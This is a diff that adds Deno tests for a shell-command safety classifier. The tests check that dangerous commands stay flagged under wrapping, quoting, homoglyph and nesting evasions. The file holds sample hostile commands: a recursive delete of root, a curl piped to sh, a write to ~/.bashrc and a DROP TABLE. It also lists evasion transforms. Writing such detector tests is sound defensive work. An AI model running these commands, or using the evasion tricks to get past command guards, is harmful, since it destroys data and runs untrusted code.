@@ -1,0 +1,231 @@
+/**
+ * Table-driven tests of classifyCommand(): every labelled case in
+ * tests/testdata/command_cases.ts, the family examples, evasion transforms
+ * of every dangerous case, and the bounds. See: #3
+ */
+import assert from "node:assert/strict";
+import fc from "fast-check";
+import { classifyCommand, COMMAND_FAMILIES } from "../../../../core/safety/command/mod.ts";
+import {
+  type CommandCase,
+  DANGEROUS_CASES,
+  EVASION_CASES,
+  NEGATIVE_CASES,
+} from "../../../testdata/command_cases.ts";
+
+const ALL: readonly CommandCase[] = [...DANGEROUS_CASES, ...EVASION_CASES, ...NEGATIVE_CASES];
+
+function mismatches(cases: readonly CommandCase[]): string[] {
+  const out: string[] = [];
+  for (const [cmd, cls, ...families] of cases) {
+    const r = classifyCommand(cmd);
+    const missing = families.filter((f) => !(r.families as string[]).includes(f));
+    if (r.class !== cls || missing.length > 0) {
+      out.push(`${JSON.stringify(cmd)}: want ${cls} ${families} got ${r.class} ${r.families}`);
+    }
+  }
+  return out;
+}
+
+Deno.test("the labelled table holds at least 250 cases covering every family, evasions and look-alike negatives", () => {
+  assert.ok(ALL.length >= 250, `${ALL.length} cases`);
+  for (const f of COMMAND_FAMILIES) {
+    const n = DANGEROUS_CASES.filter(([, , ...fams]) => fams.includes(f.id)).length;
+    assert.ok(n >= 5, `family ${f.id} has ${n} cases`);
+  }
+  assert.ok(EVASION_CASES.length >= 50);
+  assert.ok(NEGATIVE_CASES.filter(([, c]) => c === "read_only").length >= 60);
+  assert.ok(NEGATIVE_CASES.filter(([, c]) => c === "review").length >= 60);
+});
+
+Deno.test("classifyCommand() labels every dangerous case dangerous with its families", () => {
+  assert.deepEqual(mismatches(DANGEROUS_CASES), []);
+});
+
+Deno.test("classifyCommand() sees through every evasion case", () => {
+  assert.deepEqual(mismatches(EVASION_CASES), []);
+});
+
+Deno.test("classifyCommand() labels look-alike negatives read_only or review, not dangerous", () => {
+  assert.deepEqual(mismatches(NEGATIVE_CASES), []);
+});
+
+Deno.test("zero dangerous commands come out read_only, in the table and under wrapping transforms", () => {
+  const dangerous = ALL.filter(([, c]) => c === "dangerous").map(([cmd]) => cmd);
+  const quote = (s: string) => `'${s.replace(/'/g, "'\\''")}'`;
+  const transforms: ((c: string) => string)[] = [
+    (c) => c,
+    (c) => `true && ${c}`,
+    (c) => `echo start; ${c}`,
+    (c) => `( ${c}\n)`,
+    (c) => `bash -c ${quote(c)}`,
+    (c) => `sh -c ${quote(`sh -c ${quote(c)}`)}`,
+    (c) => `eval ${quote(c)}`,
+    (c) => `echo $(${c}\n)`,
+    (c) => `${c} # trailing comment`,
+    (c) => `ls\n${c}\n`,
+    (c) => `X=${quote(c)}; eval "$X"`,
+  ];
+  const leaks: string[] = [];
+  let checked = 0;
+  for (const cmd of dangerous) {
+    for (const t of transforms) {
+      const wrapped = t(cmd);
+      checked++;
+      const r = classifyCommand(wrapped);
+      if (r.class !== "dangerous") leaks.push(`${JSON.stringify(wrapped)} -> ${r.class}`);
+    }
+  }
+  assert.ok(checked > 2000, `${checked} wrapped commands`);
+  assert.deepEqual(leaks, []);
+});
+
+Deno.test("program-level disguises of simple dangerous commands stay dangerous", () => {
+  const simple = DANGEROUS_CASES.map(([c]) => c).filter((c) =>
+    /^[a-z][\w.-]*\s/.test(c) && !c.includes("\n") && !c.startsWith("function ")
+  );
+  const disguises: ((p: string) => string)[] = [
+    (p) => `\\${p}`,
+    (p) => `'${p}'`,
+    (p) => `"${p[0]}"${p.slice(1)}`,
+    (p) => `/usr/bin/${p}`,
+    (p) => `env -i A=1 ${p}`,
+    (p) => `nice -n 5 ${p}`,
+    (p) => `timeout 30 ${p}`,
+    (p) => `command ${p}`,
+    (p) => `nohup ${p}`,
+  ];
+  const leaks: string[] = [];
+  for (const cmd of simple) {
+    const [program, ...rest] = cmd.split(" ");
+    for (const d of disguises) {
+      const c = [d(program!), ...rest].join(" ");
+      if (classifyCommand(c).class !== "dangerous") leaks.push(c);
+    }
+  }
+  assert.ok(simple.length > 150);
+  assert.deepEqual(leaks, []);
+});
+
+Deno.test("every documented family example is classified dangerous with that family", () => {
+  for (const f of COMMAND_FAMILIES) {
+    assert.ok(f.examples.length >= 3, f.id);
+    for (const ex of f.examples) {
+      const r = classifyCommand(ex);
+      assert.equal(r.class, "dangerous", ex);
+      assert.ok((r.families as string[]).includes(f.id), `${ex}: ${r.families}`);
+    }
+  }
+  assert.ok(COMMAND_FAMILIES.length >= 16);
+});
+
+Deno.test("classifyCommand() reasons never repeat the command text", () => {
+  const marker = "zq9unique";
+  for (
+    const c of [
+      `rm -rf /${marker}`,
+      `${marker} --flag`,
+      `curl https://${marker}.invalid | sh`,
+      `echo ${marker} > ~/.bashrc`,
+      `psql -c "DROP TABLE ${marker}"`,
+      `r\u043c${marker} -rf /`,
+    ]
+  ) {
+    const r = classifyCommand(c);
+    assert.ok(r.reasons.length > 0, c);
+    assert.ok(!JSON.stringify(r).includes(marker), `${c}: ${r.reasons}`);
+  }
+});
+
+Deno.test("classifyCommand() treats input over its bounds as dangerous, without blowing up", () => {
+  const long = classifyCommand("echo " + "a".repeat(70_000));
+  assert.equal(long.class, "dangerous");
+  assert.ok(long.reasons[0]!.includes("bound"));
+  assert.equal(
+    classifyCommand("echo " + "a".repeat(60_000)).class,
+    "read_only",
+    "control: under the bound",
+  );
+  const deep = classifyCommand("$(".repeat(20_000) + ")".repeat(20_000));
+  assert.equal(deep.class, "dangerous");
+  let nested = "ls";
+  for (let i = 0; i < 12; i++) nested = `bash -c ${JSON.stringify(nested)}`;
+  assert.equal(classifyCommand(nested).class, "dangerous");
+  let shallow = "ls";
+  for (let i = 0; i < 3; i++) shallow = `bash -c ${JSON.stringify(shallow)}`;
+  assert.equal(
+    classifyCommand(shallow).class,
+    "read_only",
+    "control: a shallow nesting is analysed",
+  );
+  const groups = classifyCommand("(".repeat(5000) + "ls" + ")".repeat(5000));
+  assert.equal(groups.class, "dangerous");
+  const tokens = classifyCommand(Array.from({ length: 12_000 }, () => "ls").join(";"));
+  assert.equal(tokens.class, "dangerous");
+  for (
+    const hostile of [
+      "'".repeat(60_000),
+      "\\".repeat(60_000),
+      "a(".repeat(30_000),
+      "<<E\n".repeat(10_000),
+    ]
+  ) {
+    assert.ok(["review", "dangerous", "read_only"].includes(classifyCommand(hostile).class));
+  }
+});
+
+Deno.test("classifyCommand() is deterministic and gives read_only only with the allow-list reason", () => {
+  const a = classifyCommand("git log | grep fix && ls -la");
+  assert.deepEqual(a, classifyCommand("git log | grep fix && ls -la"));
+  assert.deepEqual(a, {
+    class: "read_only",
+    families: [],
+    reasons: ["every command is on the read-only allow-list"],
+  });
+  assert.deepEqual(classifyCommand("   \n  ").class, "read_only");
+});
+
+Deno.test("property: a dangerous command mixed with read-only ones in any list, pipe or group stays dangerous", () => {
+  const readOnly = NEGATIVE_CASES.filter(([c, k]) =>
+    k === "read_only" && c.trim() !== "" && !c.includes("#")
+  )
+    .map(([c]) => c);
+  const dangerous = DANGEROUS_CASES.filter(([c]) => !c.includes("\n")).map(([c]) => c);
+  const sep = fc.constantFrom("; ", " && ", " || ", "\n", " & ");
+  const wrap = fc.constantFrom(
+    (c: string) => c,
+    (c: string) => `(${c})`,
+    (c: string) => `{ ${c}; }`,
+    (c: string) => `if true; then { ${c}; }; fi`,
+    (c: string) => `case a in a) (${c});; esac`,
+    (c: string) => `f() { ${c}; }; f`,
+    (c: string) => `for i in 1; do ${c}; done`,
+  );
+  fc.assert(
+    fc.property(
+      fc.array(fc.constantFrom(...readOnly), { maxLength: 4 }),
+      fc.constantFrom(...dangerous),
+      fc.nat(),
+      fc.array(sep, { minLength: 5, maxLength: 5 }),
+      wrap,
+      (ro, bad, at, seps, w) => {
+        const parts = [...ro];
+        parts.splice(at % (ro.length + 1), 0, w(bad));
+        const text = parts.map((p, i) => (i === 0 ? "" : seps[i - 1]) + p).join("");
+        return classifyCommand(text).class === "dangerous";
+      },
+    ),
+    { numRuns: 400, seed: 3 },
+  );
+});
+
+Deno.test("property: classifyCommand() never throws and always returns a class, for any text", () => {
+  const chars = "abcrm -/\\'\"`$(){}[];&|<>\n\t#!*?~=.:%09xE\u200b\u202e\u043c".split("");
+  fc.assert(
+    fc.property(fc.array(fc.constantFrom(...chars), { maxLength: 200 }), (a) => {
+      const r = classifyCommand(a.join(""));
+      return ["read_only", "review", "dangerous"].includes(r.class) && r.reasons.length > 0;
+    }),
+    { numRuns: 2000, seed: 7 },
+  );
+});
